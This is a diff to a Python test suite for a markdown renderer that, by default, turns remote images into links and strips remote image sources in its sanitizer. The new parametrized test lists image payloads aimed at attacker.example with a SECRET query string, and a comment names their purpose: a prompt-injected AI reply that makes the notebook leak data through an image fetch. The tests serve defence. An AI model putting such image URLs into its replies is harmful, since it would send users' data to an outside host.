@@ -299,12 +299,52 @@ def test_links_open_in_a_new_tab_without_opener() -> None:
     assert '<a href="https://a.example/x"' in html
 
 
-def test_images() -> None:
-    html = render_markdown("![cat](https://example.com/cat.png) ![dot](data:image/png;base64,AAAA)")
+def test_images_when_remote_images_are_allowed() -> None:
+    html = render_markdown(
+        "![cat](https://example.com/cat.png) ![dot](data:image/png;base64,AAAA)",
+        remote_images=True,
+    )
     assert [attrs for tag, attrs in elements(html) if tag == "img"] == [
         {"alt": "cat", "src": "https://example.com/cat.png"},
         {"alt": "dot", "src": "data:image/png;base64,AAAA"},
     ]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "![x](https://attacker.example/pixel.png?q=SECRET)",
+        "![x](http://attacker.example/?q=SECRET 'title')",
+        "![](//attacker.example/?q=SECRET)",
+        "![x](relative/path.png?q=SECRET)",
+        "[![x](https://attacker.example/?q=SECRET)](https://example.com)",
+        "- item ![x](https://attacker.example/?q=SECRET)",
+        "| a |\n|---|\n| ![x](https://attacker.example/?q=SECRET) |",
+    ],
+)
+def test_by_default_no_image_is_loaded_from_an_address(source: str) -> None:
+    # A prompt-injected reply must not make the notebook fetch an address with data in it.
+    html = render_markdown(source)
+    images = [attrs for tag, attrs in elements(html) if tag == "img"]
+    assert all(attrs.get("src", "").startswith("data:") for attrs in images)
+    assert "SECRET" in html  # still there, as a link to click
+
+
+def test_a_remote_image_becomes_a_link_and_a_data_image_stays() -> None:
+    html = render_markdown("![cat](https://example.com/cat.png) ![dot](data:image/png;base64,AA)")
+    found = elements(html)
+    assert ("a", {"href": "https://example.com/cat.png", "target": "_blank",
+                  "rel": "noopener noreferrer nofollow"}) in found  # fmt: skip
+    assert [attrs for tag, attrs in found if tag == "img"] == [
+        {"alt": "dot", "src": "data:image/png;base64,AA"}
+    ]
+    assert "[image: cat]" in html
+
+
+def test_the_sanitizer_drops_remote_image_sources_unless_allowed() -> None:
+    raw = '<img src="https://attacker.example/x.png" alt="x">'
+    assert "attacker" not in sanitize_html(raw)
+    assert "attacker" in sanitize_html(raw, remote_images=True)
 
 
 def test_conversions_do_not_share_state() -> None:
